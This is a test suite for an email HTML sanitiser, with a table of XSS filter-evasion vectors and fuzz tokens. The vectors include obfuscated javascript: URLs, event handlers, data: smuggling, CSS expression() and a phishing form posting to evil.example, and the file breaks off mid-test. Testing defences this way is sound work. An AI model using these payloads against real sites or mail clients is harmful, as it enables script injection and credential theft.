import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { htmlExcerpt, sanitizeHtml, type RemovedItem } from '../../src/defang/html-sanitizer.js';

// ---------------------------------------------------------------------------------------------------------------
// An independent reading of the output: parsed again with htmlparser2 and checked element by element.
// ---------------------------------------------------------------------------------------------------------------

interface ParsedElement {
  name: string;
  attribs: Record<string, string>;
}

interface ParsedOutput {
  elements: ParsedElement[];
  /** Text outside <style>, entities decoded. */
  text: string;
  stylesheets: string[];
}

function parseOutput(html: string): ParsedOutput {
  const elements: ParsedElement[] = [];
  const stylesheets: string[] = [];
  let text = '';
  let inStyle = false;
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        elements.push({ name, attribs });
        inStyle = name === 'style';
      },
      onclosetag() {
        inStyle = false;
      },
      ontext(data) {
        if (inStyle) stylesheets.push(data);
        else text += data;
      },
    },
    { decodeEntities: true },
  );
  parser.parseComplete(html);
  return { elements, text, stylesheets };
}

/** What the output may contain at most (kept deliberately separate from the sanitiser's own lists). */
const OUTPUT_ELEMENTS = new Set(
  (
    'html head title style body a img table caption colgroup col thead tbody tfoot tr td th p div center blockquote ' +
    'pre hr br h1 h2 h3 h4 h5 h6 address section article header footer main aside nav figure figcaption ul ol li dl ' +
    'dt dd span font b i u s strike em strong small big sub sup tt code kbd samp var mark ins del abbr cite q nobr wbr'
  ).split(' '),
);
const URL_ATTRIBUTES = new Set(['href', 'src', 'background', 'action', 'formaction', 'xlink:href', 'srcset', 'data', 'poster']);

/** The scheme as the most lenient reader would see it: every control, space and invisible character removed. */
function looseScheme(url: string): string | undefined {
  const compact = url.normalize('NFKC').replace(/[\0-\x20\x7f-\xa0\xad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/g, '');
  return /^([a-z][a-z0-9+.-]*):/i.exec(compact)?.[1]?.toLowerCase();
}

/** CSS with escapes resolved and comments and whitespace removed, lower case. */
function looseCss(css: string): string {
  return css
    .replace(/\\([0-9a-f]{1,6})\s?/gi, (_, hex: string) => String.fromCodePoint(Math.min(parseInt(hex, 16) || 0xfffd, 0x10ffff)))
    .replace(/\\(.)/g, '$1')
    .replace(/\/\*[\s\S]*?(\*\/|$)/g, '')
    .normalize('NFKC')
    .replace(/\s+/g, '')
    .toLowerCase();
}

function expectSafeCss(css: string): void {
  const loose = looseCss(css);
  for (const token of ['expression(', 'javascript:', 'vbscript:', '@import', 'behavior', '-moz-binding', 'image-set(']) {
    expect(loose, css).not.toContain(token);
  }
  for (const call of loose.matchAll(/url\(["']?([^)]*)/g)) {
    expect(call[1] ?? '', css).toMatch(/^(?:https?:|cid:)/);
  }
  expect(css).not.toContain('<');
}

/** Structural safety of sanitiser output, checked on a fresh parse of it. */
function expectSafe(html: string): void {
  // Every "<" in the output opens one of its tags: text and attribute values are escaped.
  expect(html).not.toMatch(/<script|<\/?(?:iframe|object|embed|svg|math|form|meta|base|link|noscript|template)\b/i);
  // Tags with their (double-quoted, escaped) values blanked: text inside a value, e.g. a title, is inert.
  for (const tag of html.match(/<[^>]*>/g) ?? []) {
    const skeleton = tag.replace(/"[^"]*"/g, '""');
    expect(skeleton).not.toMatch(/\son[a-z0-9_-]*\s*=/i);
    expect(skeleton).not.toMatch(/javascript:|vbscript:|data:/i);
  }
  const parsed = parseOutput(html);
  for (const { name, attribs } of parsed.elements) {
    expect(OUTPUT_ELEMENTS.has(name), `element <${name}>`).toBe(true);
    for (const [attribute, value] of Object.entries(attribs)) {
      expect(attribute, `<${name} ${attribute}>`).not.toMatch(/^on/);
      if (attribute === 'style') expectSafeCss(value);
      // Text in other attributes (class, title, alt) is inert even when it reads "javascript:".
      if (!URL_ATTRIBUTES.has(attribute)) continue;
      const scheme = looseScheme(value);
      if (scheme === undefined) expect(value.trim(), `<${name} ${attribute}>`).toMatch(/^#/);
      else if (scheme === 'data') expect(`${name} ${attribute} ${value}`).toMatch(/^img src data:image\/(?:png|gif|jpeg|webp)[;,]/);
      else expect(['http', 'https', 'mailto', 'cid']).toContain(scheme);
    }
  }
  for (const sheet of parsed.stylesheets) expectSafeCss(sheet);
}

/** Start and end tags match, in order: every element is closed explicitly. */
function expectBalanced(html: string): void {
  const voids = new Set(['br', 'hr', 'img', 'col', 'wbr']);
  const stack: string[] = [];
  for (const [, close, name] of html.matchAll(/<(\/?)([a-z][a-z0-9]*)[^>]*>/g)) {
    if (voids.has(name as string)) continue;
    if (close) expect(stack.pop(), html).toBe(name);
    else stack.push(name as string);
  }
  expect(stack, html).toEqual([]);
}

function sanitizeChecked(html: string): { html: string; removed: RemovedItem[] } {
  const result = sanitizeHtml(html);
  expectSafe(result.html);
  expectBalanced(result.html);
  const again = sanitizeHtml(result.html);
  expect(again.html).toBe(result.html);
  expect(again.removed).toEqual([]);
  return result;
}

// ---------------------------------------------------------------------------------------------------------------
// Attack vectors, in the spirit of the OWASP XSS filter evasion cheat sheet (written for this suite).
// ---------------------------------------------------------------------------------------------------------------

type Vector = [title: string, html: string, reported: RemovedItem[]];
const el = (name: string): RemovedItem => ({ kind: 'element', name });
const attr = (name: string): RemovedItem => ({ kind: 'attribute', name });
const url = (name: string): RemovedItem => ({ kind: 'url', name });
const css = (name: string): RemovedItem => ({ kind: 'css', name });

const VECTORS: Vector[] = [
  // Script elements
  ['plain script', '<p>hi</p><script>alert(document.cookie)</script>', [el('script')]],
  ['upper-case script with src', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', [el('script')]],
  ['script with slash instead of space', '<script/src="data:text/javascript,alert(1)"></script>', [el('script')]],
  ['script nested in a malformed tag name', '<scr<script>ipt>alert(1)</scr</script>ipt>', []],
  ['extra open bracket', '<<script>alert(1);//<</script>', [el('script')]],
  ['script in a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', [el('script')]],
  ['CDATA that a browser ends at the first >', '<![CDATA[><script>alert(1)</script>]]>', [el('script')]],
  ['comment a browser ends at --!>', '<!-- x --!><script>alert(1)</script> -->', [el('script')]],
  ['abrupt empty comment', '<!--><script>alert(1)</script>-->', [el('script')]],
  ['processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>', []],
  // Event handlers
  ['img onerror, unquoted', '<img src=x onerror=alert(1)>', [attr('onerror')]],
  ['handler with spaces around =', '<img src="https://ok.example/a.png" onerror  =  "alert(1)">', [attr('onerror')]],
  ['handler with entity-encoded body', '<img src=x onerror=&#97;lert(1)>', [attr('onerror')]],
  ['body onload', '<body onload=alert(1)><p>x</p></body>', [attr('onload')]],
  ['slash as attribute separator', '<div/onmouseover="alert(1)">x</div>', [attr('onmouseover')]],
  ['quote-less attribute run', '<img src=x/onerror=alert(1)//>', []],
  ['nested quoting', `<img alt="'" src='x" onerror="alert(1)'>`, []],
  ['broken quoting before a handler', '<img """><script>alert(1)</script>">', [el('script')]],
  // Backticks do not quote: the value starts with one, so it is a relative URL (dropped, harmless).
  ['backticks as quotes', '<img src=`javascript:alert(1)` onload=`x`>', [attr('onload')]],
  ['handler on unknown element', '<xss onpointerover=alert(1)>hover</xss>', [attr('onpointerover')]],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary></details>', [attr('ontoggle')]],
  ['handler on table cell', '<table><tr><td onclick="alert(1)">c</td></tr></table>', [attr('onclick')]],
  // javascript: and other script URLs, obfuscated
  ['mixed-case javascript link', '<a href="JaVaScRiPt:alert(1)">x</a>', [url('javascript')]],
  ['hex entity inside the scheme', '<a href="jav&#x61;script:alert(1)">x</a>', [url('javascript')]],
  ['decimal entities without semicolons', '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>', [url('javascript')]],
  ['zero-padded entities', '<a href="&#0000106;&#0000097;vascript:alert(1)">x</a>', [url('javascript')]],
  ['&colon; entity', '<a href="javascript&colon;alert(1)">x</a>', [url('javascript')]],
  ['tab inside the scheme', '<a href="java\tscript:alert(1)">x</a>', [url('javascript')]],
  ['&Tab; entity inside the scheme', '<a href="java&Tab;script:alert(1)">x</a>', [url('javascript')]],
  ['encoded newline inside the scheme', '<a href="java&#x0A;script:alert(1)">x</a>', [url('javascript')]],
  ['leading space and control character', '<a href=" &#x01;javascript:alert(1)">x</a>', [url('javascript')]],
  ['leading &NewLine;', '<a href="&NewLine;javascript:alert(1)">x</a>', [url('javascript')]],
  ['null byte inside the scheme', '<a href="java\0script:alert(1)">x</a>', [url('javascript')]],
  ['no-break space before the scheme', '<a href="\u00a0javascript:alert(1)">x</a>', [url('javascript')]],
  ['full-width scheme', '<a href="ｊａｖａｓｃｒｉｐｔ：alert(1)">x</a>', [url('javascript')]],
  ['unquoted javascript link', '<a href=javascript&#58;alert(1)>x</a>', [url('javascript')]],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>', [url('vbscript')]],
  ['javascript image', '<img src="javascript:alert(1)">', [url('javascript')]],
  ['javascript in srcset', '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">', [url('javascript')]],
  ['javascript table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', [url('javascript')]],
  ['data: image as a table background', '<table background="data:image/png;base64,AA"><tr><td>x</td></tr></table>', [url('data')]],
  ['vbscript cell background', '<table><tr><td background="vbscript:x">x</td></tr></table>', [url('vbscript')]],
  // data: URLs and HTML smuggling
  ['data: HTML link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>', [url('data')]],
  ['smuggling link with download', '<a href="data:application/octet-stream;base64,TVqQ" download="invoice.exe">invoice</a>', [attr('download'), url('data')]],
  ['SVG data image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', [url('data')]],
  ['upper-case DATA scheme', '<a href="DATA:text/html,x">x</a>', [url('data')]],
  ['ping attribute', '<a href="https://ok.example/" ping="https://track.example/">x</a>', [attr('ping')]],
  // Embedding, frames, forms, document-level elements
  ['iframe with javascript src', '<iframe src="javascript:alert(1)"></iframe>', [el('iframe')]],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', [el('iframe')]],
  ['frameset', '<frameset><frame src="https://evil.example/"></frameset>', [el('frameset')]],
  ['object with data HTML', '<object data="data:text/html;base64,PHNjcmlwdD4="></object>', [el('object')]],
  ['embed', '<embed src="https://evil.example/x.swf">', [el('embed')]],
  ['applet', '<applet code="X.class"><param name=a value=b></applet>', [el('applet')]],
  ['phishing form', '<form action="https://evil.example/"><p>Password</p><input type=password name=p><button>Log in</button></form>', [el('form'), attr('action'), el('input'), el('button')]],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>', [el('button'), attr('formaction'), url('javascript')]],
  ['isindex', '<isindex action=javascript:alert(1) type=image>', [el('isindex')]],
  ['input image', '<input type="image" src="javascript:alert(1)">', [el('input')]],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', [el('meta')]],
  ['base href', '<base href="javascript:alert(1)//"><a href="x">x</a>', [el('base')]],
  ['svg onload', '<svg/onload=alert(1)>', [el('svg')]],
  ['script inside svg', '<svg><script>alert(1)</script></svg>', [el('svg')]],
  ['math namespace confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', [el('math')]],
  ['template content', '<template><img src=x onerror=alert(1)></template>', [el('template')]],
  ['video source onerror', '<video><source onerror="alert(1)"></video>', [el('video')]],
  // Raw-text and mutation tricks
  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', [el('noscript')]],
  ['style end tag with slash', '<style>a{}</style/><img src=x onerror=alert(1)>', [el('style')]],
  ['title end tag with slash', '<head><title>t</title/><img src=x onerror=alert(1)></title></head>', [el('title')]],
  ['xmp keeps markup as text', '<xmp><img src=x onerror=alert(1)></xmp>', []],
  ['textarea', '<textarea><script>alert(1)</script></textarea>', [el('textarea')]],
  // CSS
  ['url(javascript:) in style attribute', '<div style="background:url(javascript:alert(1))">x</div>', [css('javascript')]],
  ['url() with a data: HTML target', '<div style="background:url(data:text/html,x)">x</div>', [css('url')]],
  ['expression()', '<div style="width: expression(alert(1))">x</div>', [css('expression')]],
  ['expression split by a comment', '<div style="width: exp/**/ression(alert(1))">x</div>', [css('expression')]],
  ['expression with CSS escapes', '<div style="w\\idth: \\65 xpression(alert(1))">x</div>', [css('expression')]],
  ['full-width expression', '<div style="width: ｅｘｐｒｅｓｓｉｏｎ(alert(1))">x</div>', [css('expression')]],
  ['behavior', '<div style="behavior: url(https://evil.example/x.htc)">x</div>', [css('behavior')]],
  ['-moz-binding', '<div style="-moz-binding: url(https://evil.example/x.xml#x)">x</div>', [css('-moz-binding')]],
  ['image-set with a bare string', `<div style="background-image: image-set('javascript:alert(1)' 1x)">x</div>`, [css('javascript')]],
  ['escaped url function', '<div style="background: \\75 rl(vbscript:x)">x</div>', [css('vbscript')]],
  ['file: CSS background', '<div style="background:url(file:///etc/passwd)">x</div>', [css('url')]],
  ['@import in a style element', `<style>@import 'https://evil.example/x.css'; p{color:red}</style>`, [css('@import')]],
  ['javascript url in a style element', '<style>body{background:url("javascript:alert(1)")}</style>', [css('javascript')]],
  ['nested in @media', '<style>@media screen{a{background:url(vbscript:x)}}</style>', [css('vbscript')]],
  ['comment-split expression inside a string', `<div style='font-family: "exp/**/ression(1)"'>x</div>`, [css('expression')]],
  ['malformed rule still inspected', '<style>a{color:red;x:"unclosed expression(alert(1))}</style>', [css('expression')]],
  ['style attribute on an unknown element', '<xss style="xss:expression(alert(1))">x</xss>', [css('expression')]],
];

describe('sanitizeHtml: attack vectors', () => {
  it('has a broad table', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(VECTORS)('%s', (_title, html, reported) => {
    const result = sanitizeChecked(html);
    expect(result.removed).toEqual(expect.arrayContaining(reported));
    for (const item of result.removed) expect(item.name).toMatch(/^[\x21-\x7e]+$/);
  });

  it('reports what it removed once per kind and name', () => {
    const { removed } = sanitizeHtml('<script>1</script><script>2</script><b onclick=x onclick=y>b</b><i onclick=z>i</i>');
    expect(removed).toEqual([el('script'), attr('onclick')]);
  });

  it('escapes names taken from the mail in reports', () => {
    const { removed } = sanitizeHtml('<b onclick\u00e9=x>b</b>');
    expect(removed).toEqual([attr('onclick?')]);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Ordinary mail keeps its structure and text.
// ---------------------------------------------------------------------------------------------------------------

const NEWSLETTER = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html lang="en"><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Newsletter &amp; news</title>
<style type="text/css"><!--
body { margin: 0; padding: 0; font-family: "Helvetica Neue", Arial, sans-serif; }
@font-face { font-family: Brand; src: url(https://cdn.example.com/brand.woff2) format("woff2"); }
.hero td { background: #f4f4f4 url('https://cdn.example.com/hero.jpg') no-repeat; }
@media only screen and (max-width: 600px) { .col { width: 100% !important; display: block; } }
--></style>
</head>
<body bgcolor="#ffffff" style="margin:0">
<!--[if mso]><table><tr><td><![endif]-->
<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" class="hero">
  <thead><tr><th colspan="2" align="left">Grüße aus Zürich — ça va? Ñandú</th></tr></thead>
  <tbody>
  <tr>
    <td class="col" width="300" valign="top" style="padding: 10px; color: #333333; font-size: 14px">
      <h1 style="margin:0">Привет, мир</h1>
      <p>你好，世界 · こんにちは · 안녕하세요</p>
      <p dir="rtl" lang="ar">مرحبا بالعالم</p>
      <p>Party time 🎉👍🏽 &nbsp;&copy; 2024 &lt;tags&gt; "quoted" &amp; more</p>
      <img src="https://cdn.example.com/logo.png" alt="Logo" width="120" height="40" border="0">
      <img src="cid:part1.abc@example.com" alt="inline">
      <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">
    </td>
    <td class="col" width="300" bgcolor="#eeeeee">
      <ul><li><a href="https://shop.example.com/?utm_source=mail&amp;id=7" target="_blank">Shop</a></li>
      <li><a href="mailto:info@example.com">Mail us</a></li><li><a href="#top">Top</a></li></ul>
      <blockquote type="cite"><font color="#888888" face="Georgia" size="2">Quoted <b>reply</b></font></blockquote>
      <hr><br><center><small>Unsubscribe</small></center>
    </td>
  </tr>
  </tbody>
</table>
<!--[if mso]></td></tr></table><![endif]-->
</body></html>`;

describe('sanitizeHtml: ordinary mail', () => {
  const result = sanitizeChecked(NEWSLETTER);
  const input = parseOutput(NEWSLETTER);
  const output = parseOutput(result.html);

  it('reports nothing for a newsletter', () => {
    expect(result.removed).toEqual([]);
  });

  it('keeps every text, in every script', () => {
    expect(output.text.replace(/\s+/g, ' ')).toBe(input.text.replace(/\s+/g, ' '));
    for (const text of ['Grüße aus Zürich — ça va? Ñandú', 'Привет, мир', '你好，世界 · こんにちは · 안녕하세요', 'مرحبا بالعالم', '🎉👍🏽', '\u00a0© 2024 <tags> "quoted" & more']) {
      expect(output.text).toContain(text);
    }
  });

  it('keeps the structure (minus meta) and the doctype', () => {
    const names = (parsed: ParsedOutput): string[] => parsed.elements.map((e) => e.name).filter((n) => n !== 'meta');
    expect(names(output)).toEqual(names(input));
    expect(result.html.startsWith('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"')).toBe(true);
  });

  it('keeps presentational attributes, images and links', () => {
    const find = (name: string, index = 0): Record<string, string> => output.elements.filter((e) => e.name === name)[index]?.attribs ?? {};
    expect(find('table')).toEqual({ width: '600', cellpadding: '0', cellspacing: '0', border: '0', align: 'center', class: 'hero' });
    expect(find('td')).toMatchObject({ width: '300', valign: 'top', style: 'padding: 10px; color: #333333; font-size: 14px' });
    expect(find('th')).toEqual({ colspan: '2', align: 'left' });
    expect(find('img', 0)).toEqual({ src: 'https://cdn.example.com/logo.png', alt: 'Logo', width: '120', height: '40', border: '0' });
    expect(find('img', 1).src).toBe('cid:part1.abc@example.com');
    expect(find('img', 2).src).toBe('data:image/png;base64,iVBORw0KGgo=');
    expect(find('a', 0)).toEqual({ href: 'https://shop.example.com/?utm_source=mail&id=7', target: '_blank', rel: 'noopener noreferrer' });
    expect(find('a', 1)).toEqual({ href: 'mailto:info@example.com' });
    expect(find('a', 2)).toEqual({ href: '#top' });
    expect(find('font')).toEqual({ color: '#888888', face: 'Georgia', size: '2' });
    expect(find('p', 1)).toEqual({ dir: 'rtl', lang: 'ar' });
  });

  it('keeps the stylesheet, filtered', () => {
    const sheet = output.stylesheets.join('');
    expect(sheet).toContain('@media only screen and (max-width: 600px){.col{width: 100% !important;display: block}}');
    expect(sheet).toContain('@font-face{font-family: Brand;src: url(https://cdn.example.com/brand.woff2) format("woff2")}');
    expect(sheet).toContain(`.hero td{background: #f4f4f4 url('https://cdn.example.com/hero.jpg') no-repeat}`);
    expect(sheet).not.toContain('<!--');
  });

  it('reports nothing for Word/Outlook markup (conditional comments, VML behavior, o:p, mso- styles)', () => {
    const outlook = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="Generator" content="Microsoft Word 15">
<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);} o\\:* {behavior:url(#default#VML);}</style><![endif]-->
<style><!-- p.MsoNormal {margin:0cm; font-family:"Calibri",sans-serif; mso-fareast-language:EN-US;} @page WordSection1 {size:612.0pt 792.0pt;} --></style>
<!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]--></head>
<body lang="EN-GB" link="#0563C1" vlink="#954F72"><div class="WordSection1"><p class="MsoNormal">Hi team,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p></div></body></html>`;
    const result = sanitizeChecked(outlook);
    expect(result.removed).toEqual([]);
    expect(parseOutput(result.html).text).toContain('Hi team,');
    // Still dropped where it is not hidden in a comment, and any other behavior is reported.
    expect(sanitizeChecked('<p style="behavior:url(#default#VML); color:red">x</p>')).toEqual({ html: '<p style="color:red">x</p>', removed: [] });
    expect(sanitizeHtml('<p style="behavior:url(#default#VML);behavior:url(x.htc)">x</p>').removed).toEqual([css('behavior')]);
  });

  it('returns plain text unchanged apart from escaping', () => {
    const text = 'Hello > world & friends: ½ ünïcödé 😀 \u200f\u05e9\u05dc\u05d5\u05dd';
    expect(sanitizeHtml(text).html).toBe(text.replace(/&/g, '&amp;').replace(/>/g, '&gt;'));
  });
});

describe('sanitizeHtml: structure', () => {
  it.each([
    ['<p>one<p>two', '<p>one</p><p>two</p>'],
    ['<ul><li>a<li>b</ul>', '<ul><li>a</li><li>b</li></ul>'],
    ['<p>a<div>b</div>', '<p>a</p><div>b</div>'],
    ['<b><i>unclosed', '<b><i>unclosed</i></b>'],
    // An unwrapped element between two cells: the second cell still closes the first in the output.
    ['<td>a<label><td>b</td></label></td>', '<td>a</td><td>b</td>'],
    ['<table><tr><td>a<td>b<tr><td>c</table>', '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>'],
    ['<dl><dt>t<dd>d<dt>u</dl>', '<dl><dt>t</dt><dd>d</dd><dt>u</dt></dl>'],
  ])('closes %s explicitly and idempotently', (html, expected) => {
    expect(sanitizeChecked(html).html).toBe(expected);
  });

  it('keeps head to title and style, and closes it before body content', () => {
    const { html } = sanitizeChecked('<html><head><meta charset=utf-8><link rel=stylesheet href=https://x.example/a.css><title>T</title><p>text</p><title>late</title>');
    expect(html).toBe('<html><head><title>T</title></head><p>text</p></html>');
  });

  it('keeps one skeleton and unwraps repeated or misplaced parts', () => {
    expect(sanitizeChecked('<body><p>a</p><body bgcolor=red><html><p>b</p>').html).toBe('<body><p>a</p><p>b</p></body>');
  });

  it('drops comments, processing instructions and unsafe doctypes without reporting them', () => {
    const result = sanitizeChecked('<!-- note --><?php echo 1 ?><p>x</p><!doctype html>');
    expect(result).toEqual({ html: '<p>x</p>', removed: [] });
  });

  it('unwraps unknown elements silently, keeping their text', () => {
    expect(sanitizeChecked('<o:p>Outlook</o:p> <marquee>m</marquee> <label>l</label>')).toEqual({ html: 'Outlook m l', removed: [] });
  });

  it('drops relative and unknown-scheme links silently, and non-_blank targets', () => {
    expect(sanitizeChecked('<a href="/x" target="_top">a</a><a href="//evil.example/">b</a>').html).toBe('<a>a</a><a>b</a>');
    expect(sanitizeHtml('<a href="ftp://x/">a</a>').removed).toEqual([url('ftp')]);
  });

  it('removes null bytes from text and attributes', () => {
    expect(sanitizeChecked('a\0b<img alt="c\0d">').html).toBe('ab<img alt="cd">');
  });

  it('flattens nesting beyond 512 levels, in linear time, and reports it', () => {
    const html = '<div>'.repeat(20_000) + '</x>'.repeat(20_000) + 'end';
    const started = performance.now();
    const result = sanitizeHtml(html);
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(result.removed).toEqual([el('#deep-nesting')]);
    expect(result.html.endsWith(`end${'</div>'.repeat(512)}`)).toBe(true);
    expectBalanced(result.html);
  });

  it('stays linear on pathological CSS', () => {
    const started = performance.now();
    sanitizeHtml(`<div style="${'url('.repeat(100_000)}">x</div><div style="a:${' '.repeat(300_000)}b">y</div>`);
    sanitizeHtml(`<style>${'@media x{'.repeat(50_000)}</style><style>a{b:"${'\\"'.repeat(100_000)}}</style>`);
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Properties
// ---------------------------------------------------------------------------------------------------------------

const TOKENS = [
  '<', '>', '</', '/>', '"', "'", '`', '=', ' ', '\t', '\n', '\0', '&', '&#x61;', '&#58', '&colon;', '&lt;', '&gt;',
  '&quot;', '&Tab;', '<!--', '-->', '--!>', '<![CDATA[', ']]>', '<?', '<!DOCTYPE html>', '<!--[if IE]>', '<![endif]-->',
  '<script>', '</script>', '<script', '<style>', '</style>', '</style/', '<title>', '</title>', '<svg>', '</svg>',
  '<math>', '<noscript>', '</noscript>', '<iframe>', '<textarea>', '<xmp>', '<template>', '<form>', '<object>',
  '<a ', '<a>', '</a>', '<img ', '<p>', '</p>', '<div ', '</div>', '<table>', '<tr>', '<td ', '</td>', '<li>', '<head>',
  '<body ', '<html>', '<b>', '</b>', '<scr', 'ipt>', 'href=', 'src=', 'style=', 'onerror=', 'onload=', 'target=',
  'background=', 'download', 'javascript:', 'java\tscript:', 'JaVaScRiPt:', 'vbscript:', 'data:', 'data:image/png,',
  'data:text/html,', 'https://x.example/', 'cid:a', '#top', 'alert(1)', 'url(', ')', 'expression(', 'exp/**/ression(',
  '\\65 ', '@import ', '@media x{', '{', '}', ';', ':', 'behavior:', '-moz-binding:', 'color:red', '/*', '*/', 'é',
  '😀', 'Привет', '你好', 'مرحبا',
];
const htmlSoup = fc.array(fc.oneof(fc.constantFrom(...TOKENS), fc.string({ maxLength: 6 })), { maxLength: 60 }).map((parts) => parts.join(''));
const anyText = fc.string({ unit: 'binary', maxLength: 200 });

/** HTML-shaped input, so the kept paths (links, images, inline styles, stylesheets, the skeleton) get fuzzed too. */
const cssDeclaration = fc
  .tuple(
    fc.constantFrom('color', 'background', 'width', 'font-family', '--x', '*zoom', 'behavior', 'w\\idth', 'src'),
    fc.constantFrom(
      'red', 'url(https://x.example/a.png)', 'url( "cid:a" )', 'url(http://x.example/)', 'url(javascript:x)',
      '\\75 rl(data:x)', 'expression(1)', '\\65 xpression(1)', 'exp/**/ression(1)', '"a;b"', '"unclosed', '1px /* c */ 2px',
      'image-set("a.png" 1x)', 'x\\', '(a', 'a)', '"</style>"', '<b>', '100% !important',
    ),
  )
  .map(([property, value]) => `${property}:${value}`);
const cssDeclarations = fc.array(cssDeclaration, { maxLength: 4 }).map((list) => list.join(';'));
const cssRule = fc
  .tuple(
    fc.constantFrom('p', '.a td', 'a[href^="x;"]', '@media (max-width:600px)', '@media screen{p', '@font-face', '@page', '@keyframes k', '@supports (x:y)', '@import "x.css";', '@-moz-document url-prefix()', '<!--', '-->', '}', 'a<b'),
    cssDeclarations,
    fc.constantFrom('}', '', '}}'),
  )
  .map(([prelude, body, end]) => `${prelude}{${body}${end}`);
const attributeValue = fc.oneof(
  fc.constantFrom(
    'https://x.example/?a=1&amp;b=2', 'http://x.example/', 'mailto:a@example.com', 'cid:a', '#top', '/relative', '//host/x',
    'javascript:alert(1)', ' jav&#x61;script:x', 'java\tscript:x', 'data:image/png;base64,AA', 'data:image/svg+xml,x',
    'data:text/html,x', '_blank', '_top', '100', '#ff0000', '&quot;&gt;&lt;script&gt;', '', '\u00a0javascript:x',
  ),
  cssDeclarations,
);
const attribute = fc
  .tuple(
    fc.constantFrom('href', 'src', 'style', 'background', 'target', 'class', 'width', 'title', 'onclick', 'download', 'srcset', 'action', 'http-equiv'),
    attributeValue,
    fc.constantFrom('"', "'", ''),
  )
  .map(([name, value, quote]) => ` ${name}=${quote}${value}${quote}`);
const elementName = fc.constantFrom(
  'p', 'div', 'span', 'b', 'a', 'img', 'br', 'hr', 'table', 'thead', 'tbody', 'tr', 'td', 'th', 'ul', 'li', 'dl', 'dt', 'dd',
  'h1', 'font', 'section', 'html', 'head', 'body', 'title', 'style', 'meta', 'link', 'base', 'script', 'svg', 'math',
  'noscript', 'form', 'button', 'textarea', 'xmp', 'template', 'iframe', 'label', 'o:p',
);
const { node: htmlTree } = fc.letrec<{ node: string }>((tie) => ({
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constantFrom('text', ' ', 'Привет 你好 😀', '&amp;', '<', '>', '<!-- c -->', '<!--[if mso]><script>x</script><![endif]-->', '<!DOCTYPE html>'),
    fc.array(cssRule, { maxLength: 3 }).map((rules) => `<style>${rules.join('\n')}</style>`),
    fc
      .tuple(elementName, fc.array(attribute, { maxLength: 3 }), fc.array(tie('node'), { maxLength: 4 }), fc.constantFrom('close', 'open', 'slash'))
      .map(([name, attributes, children, end]) => {
        const closing = end === 'close' ? `</${name}>` : end === 'slash' ? `</${name}/>` : '';
        return `<${name}${attributes.join('')}>${children.join('')}${closing}`;
      }),
  ),
}));
/** FUZZ_RUNS=200000 for a long hunt. */
const RUNS = Number(process.env.FUZZ_RUNS ?? 3_000);

describe('sanitizeHtml: properties', () => {
  it('never throws, writes only safe and balanced markup, and is idempotent', () => {
    fc.assert(
      fc.property(fc.oneof(htmlTree, htmlSoup, anyText), (html) => {
        sanitizeChecked(html);
      }),
      { numRuns: RUNS },
    );
  });

  it('keeps any text without markup, only escaping it', () => {
    fc.assert(
      fc.property(anyText.map((s) => s.replace(/[<&]/g, '')), (text) => {
        const { html, removed } = sanitizeHtml(text);
        expect(removed).toEqual([]);
        expect(parseOutput(html).text).toBe(text.replace(/\0/g, ''));
      }),
      { numRuns: Math.ceil(RUNS / 3) },
    );
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Excerpt
// ---------------------------------------------------------------------------------------------------------------

describe('htmlExcerpt', () => {
  it('gives readable one-line text without hrefs, images, scripts or styles', () => {
    const html = '<html><head><title>T</title><style>p{color:red}</style></head><body><h1>Hello</h1><p>Visit <a href="https://x.example/">our shop</a> <img src="https://x.example/a.png" alt="IMG"> now &amp; save.</p><script>var hidden = 1;</script><table><tr><td>Cell</td></tr></table></body></html>';
    expect(htmlExcerpt(html, 200)).toBe('Hello Visit our shop now & save. Cell');
  });

  it('cuts at a word boundary with an ellipsis, within maxChars', () => {
    const excerpt = htmlExcerpt('<p>The quick brown fox jumps over the lazy dog</p>', 20);
    expect(excerpt).toBe('The quick brown fox…');
    expect(Array.from(excerpt).length).toBeLessThanOrEqual(20);
  });

  it('counts code points and never splits a surrogate pair', () => {
    const excerpt = htmlExcerpt(`<p>${'😀'.repeat(30)}</p>`, 10);
